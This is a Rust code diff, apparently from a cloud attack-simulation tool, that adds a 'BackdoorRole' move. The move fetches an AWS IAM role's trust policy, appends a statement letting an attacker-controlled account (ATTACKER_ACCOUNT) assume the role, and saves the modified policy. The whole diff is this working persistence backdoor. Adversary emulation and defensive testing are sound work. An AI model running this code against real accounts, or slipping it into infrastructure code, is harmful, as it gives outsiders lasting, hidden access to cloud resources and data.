@@ -161,6 +161,44 @@ pub async fn play(admin: &Admin, m: &Move) -> (String, Played) {
                 }
             }
         }
+        MoveKind::BackdoorRole => {
+            let iam = admin.iam();
+            let role = m.role.clone().unwrap_or_default();
+            let r = async {
+                let got = iam
+                    .get_role()
+                    .role_name(&role)
+                    .send()
+                    .await
+                    .map_err(|e| error_text(&e))?;
+                let trust = got
+                    .role()
+                    .and_then(|r| r.assume_role_policy_document())
+                    .map(crate::actions::iam::url_decode)
+                    .unwrap_or_default();
+                let mut doc: serde_json::Value = serde_json::from_str(&trust).unwrap_or_else(
+                    |_| serde_json::json!({"Version": "2012-10-17", "Statement": []}),
+                );
+                let opened = serde_json::json!({
+                    "Effect": "Allow",
+                    "Principal": { "AWS": format!("arn:aws:iam::{ATTACKER_ACCOUNT}:root") },
+                    "Action": "sts:AssumeRole",
+                });
+                match doc["Statement"].as_array_mut() {
+                    Some(statements) => statements.push(opened),
+                    None => doc["Statement"] = serde_json::json!([opened]),
+                }
+                iam.update_assume_role_policy()
+                    .role_name(&role)
+                    .policy_document(doc.to_string())
+                    .send()
+                    .await
+                    .map_err(|e| error_text(&e))?;
+                Ok((vec![role.clone()], Vec::new()))
+            }
+            .await;
+            (format!("role {role}"), r)
+        }
         MoveKind::DeleteSnapshots => {
             let ec2 = admin.ec2(&region);
             let r = async {
